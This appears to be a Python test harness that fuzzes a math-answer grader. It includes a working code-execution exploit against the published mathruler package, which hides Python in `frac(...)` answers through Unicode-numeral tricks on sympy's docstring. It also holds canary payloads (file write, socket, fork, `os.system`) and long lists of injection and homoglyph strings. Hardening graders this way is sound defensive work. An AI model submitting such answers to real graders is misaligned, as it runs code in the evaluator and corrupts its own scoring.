r"""Answers that run code in a grader as its package publishes it, and others that try.

mathruler's own guard allows two letters besides ``sqrt`` and ``frac``. ``__ⅾoⅽ__`` has one, as Unicode's
small roman numerals are no letters, though Python reads them as such after a dot. A docstring holds
every other letter; ``frac`` hands a text to sympy's parser, which evaluates it.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

# The docstring of sympy's sqrt, of which the exploit takes letters by number.
_LETTERS = "sqrt.__ⅾoⅽ__"


def exploit(code: str, docstring: str) -> str:
    """An answer for which the published mathruler evaluates ``code``, an expression without spaces.

    Compared with a gold that is no integer and has no letter. Of the alphabet, j and z are missing.
    """
    parts = []
    for character in code:
        if not character.isalpha():
            parts.append(f"'{character}'" if character != "'" else '"\'"')
        elif character in docstring:
            parts.append(f"{_LETTERS}[{docstring.index(character)}]")
        else:
            raise ValueError(f"{character!r} is not in the docstring")
    return f"frac({'+'.join(parts)})"


def docstring() -> str:
    """That of sympy's sqrt, read from its source: importing sympy is the grader's business."""
    import ast
    import importlib.util
    from pathlib import Path

    spec = importlib.util.find_spec("sympy")
    assert spec is not None
    assert spec.origin is not None
    path = Path(spec.origin).parent / "functions" / "elementary" / "miscellaneous.py"
    for node in ast.parse(path.read_text(encoding="utf-8")).body:
        if isinstance(node, ast.FunctionDef) and node.name == "sqrt":
            return ast.get_docstring(node, clean=False) or ""
    raise LookupError("sympy has no sqrt")


def payloads(canary: str, port: int) -> dict[str, str]:
    """What an attack would run: expressions that leave the file ``canary``, reach ``port``, or fork."""
    return {
        "write": f"open('{canary}','w')",
        "connect": f"__import__('socket').create_connection(('127.0.0.1','{port}'))",
        "fork": "__import__('os').fork()",
        "run": f"__import__('os').system('>{canary}')",
    }


ATTACKS = (
    "(D) ⅽlass",
    "().__class__",
    "().__ⅽⅼass__",
    "sqrt.__ⅾoⅽ__",
    "(1).ⅾ",
    "x.ⅰ",
    "1.5.real",
    "1..real",
    "60..real",
    "__import__('os').system('true')",
    "__ⅰⅿport__('os')",
    "getattr((),'__class__')",
    "getattr(getattr(getattr((),'__class__'),'__base__'),'__subclasses__')()",
    "f'{1}'",
    'f"{().__class__}"',
    "'{0.__class__}'.format(1)",
    "'a'*9",
    "`id`",
    "x[0]",
    "sqrt[0]",
    "(1,2)[0]",
    "[1,2][0]",
    "0.5[x]",
    "lambda:0",
    "(x:=5)",
    "[x for x in (1,2)]",
    "{1:2}",
    "x if 1 else 2",
    "1or(2)",
    "xis1",
    "print(1)",
    "ｅｘｅｃ(1)",
    "𝐞𝐱𝐞𝐜(1)",
    "open('x')",
    "exec('1')",
    "eval('1')",
    "compile('1','','eval')",
    "S('1')",
    "sympify('1')",
    "lambdify(x,x)",
    "preview(x)",
    "plot(x)",
    "source(sqrt)",
    "test()",
    "doctest()",
    "init_printing()",
    "parse_expr('1')",
    "N('1')",
    "id",
    "all",
    "eye(2)",
    "fu(1)",
    "...",
    "*(1,)",
    "sqrt(*(4,))",
    "sqrt(**x)",
    "1;2",
    "x\n.real",
    "x＿＿",
    "ªtan(1)",
    r"\text{__import__('os')}(x)=0",
    r"\operatorname{exec}(x)",
    r"\mathrm{eval}(x)=1",
)
"""Refused or no formula, whether sympy could evaluate them or not."""

_NAMES = (
    "exec",
    "eval",
    "open",
    "compile",
    "getattr",
    "setattr",
    "vars",
    "globals",
    "locals",
    "dir",
    "input",
    "print",
    "id",
    "all",
    "any",
    "chr",
    "ord",
    "__import__",
    "__class__",
    "__doc__",
    "__dict__",
    "__globals__",
    "__builtins__",
    "__subclasses__",
    "sympify",
    "S",
    "N",
    "Q",
    "lambdify",
    "preview",
    "plot",
    "source",
    "test",
    "doctest",
    "init_printing",
    "parse_expr",
    "symbols",
    "var",
    "Lambda",
    "Function",
    "Symbol",
    "sqrt",
    "frac",
    "sin",
    "factorial",
    "fibonacci",
    "pi",
    "oo",
    "re",
    "im",
    "ln",
    "eye",
    "Matrix",
    "Poly",
    "solve",
    "lambda",
    "import",
    "if",
    "else",
    "or",
    "and",
    "not",
    "is",
    "in",
    "for",
    "yield",
    "await",
    "async",
    "class",
    "def",
    "del",
    "with",
    "None",
    "True",
)
_FOLDED = {
    **dict(zip("ivxlcdm", "ⅰⅴⅹⅼⅽⅾⅿ", strict=True)),
    "a": "ª",
    "o": "º",
    "s": "ſ",
    "_": "＿",
    ".": "．",
    "(": "（",
    ")": "）",
    "[": "［",
    "]": "］",
    "'": "＇",
    "1": "１",
}
_NOISE = [
    *"()[]{}.,:;=+-*/^!'\"`@#$%&|~<>\\_ \n\t0123456789xyzab",
    "__",
    "**",
    "!!",
    "//",
    ":=",
    "<<",
    r"\frac",
    r"\sqrt{",
    r"\text{",
    "^{",
    "\0",
    "\ud800",
    "\u202e",
    "²",
    "½",
    "√",
    "π",
    "°",
    "１",
]


def folded(text: str, rng: random.Random) -> str:
    """``text`` with some characters replaced by others that Unicode folds into them."""
    return "".join(_look_alike(c, rng) if rng.random() < 0.4 else c for c in text)


def _look_alike(character: str, rng: random.Random) -> str:
    choices = [_FOLDED[character]] if character in _FOLDED else []
    if "a" <= character <= "z":
        offset = ord(character) - ord("a")
        choices += [chr(0xFF41 + offset), chr(0x1D41A + offset), chr(0x1D5BA + offset)]
    return rng.choice(choices) if choices else character


def _expression(rng: random.Random, depth: int = 0) -> str:
    """A formula, or what looks like one and is not."""
    a, b = rng.randint(0, 99), rng.randint(0, 10**6)
    if depth > 2 or rng.random() < 0.25:
        atoms = [
            str(a),
            f"{a}.{b}",
            f"{a}.",
            f".{a}",
            "x",
            r"\pi",
            "α",
            rf"\sqrt{{{a}}}",
            f"{a}!",
            rng.choice(_NAMES),
            f"0.{a}[{b}]",
            f"'{a}'",
            f"{a}e{b % 400}",
            f"0x{a}",
        ]
        return rng.choice(atoms)
    left, right = _expression(rng, depth + 1), _expression(rng, depth + 1)
    name = rng.choice(_NAMES)
    forms = [
        f"{left}+{right}",
        f"({left})*({right})",
        rf"\frac{{{left}}}{{{right}}}",
        f"({left})^({right})",
        f"{name}({left})",
        f"({left}).{name}",
        f"({left}).{name}({right})",
        f"{left}[{right}]",
        f"{name}.__{name}__",
        f"f'{{{left}}}'",
        f"getattr({left},'{name}')",
        f"lambda {name}:{left}",
        f"[{left} for x in {right}]",
        f"({left},{right})",
        f"{left}={right}",
        f"{left}<{right}",
        f"{name}({left},{name}={right})",
        rf"\text{{{name}}}({left})",
        rf"\operatorname{{{name}}}({left})",
        f"{left} if {right} else {name}",
        f"({name}:={left})",
        f"'%s'%{left}",
        f"'{{0.{name}}}'.format({left})",
    ]
    return rng.choice(forms)


def _towering(rng: random.Random) -> str:
    n = rng.randint(2, 10**6)
    forms = [
        f"9**9**{n}",
        f"{n}!!!",
        f"2**{n}**{n}",
        f"10**{n}*x",
        rf"9^{{9^{{{n}}}}}",
        f"1<<{n}{n}",
        "(" * (n % 300) + "1" + ")" * (n % 300),
        "{" * (n % 5000) + "}" * (n % 5000),
        r"\frac{1}{" * (n % 60) + "2" + "}" * (n % 60),
        r"\sqrt{" * (n % 60) + "2" + "}" * (n % 60),
        "-" * (n % 3000) + "1",
        "x" + "^x" * (n % 50),
        "{}" * (n % 500),
        f"{n}e{n}",
    ]
    return rng.choice(forms)


def _mutated(text: str, rng: random.Random) -> str:
    characters = list(text)
    for _ in range(rng.randint(1, 4)):
        place = rng.randint(0, len(characters))
        if rng.random() < 0.6:
            characters.insert(place, rng.choice(_NOISE))
        elif place < len(characters):
            characters.pop(place)
    return "".join(characters)


def generated(count: int, seed: int, exploits: list[str]) -> Iterator[str]:
    """Attacks by grammar and by mutation, among them those of which it is known that they work."""
    rng = random.Random(seed)
    for _ in range(count):
        chance = rng.random()
        if chance < 0.15:
            text = rng.choice(exploits)
        elif chance < 0.35:
            text = rng.choice(ATTACKS)
        elif chance < 0.39:
            text = _towering(rng)
        else:
            text = _expression(rng)
        if rng.random() < 0.3:
            text = folded(text, rng)
        if rng.random() < 0.4 and len(text) < 2000:
            text = _mutated(text, rng)
        yield text
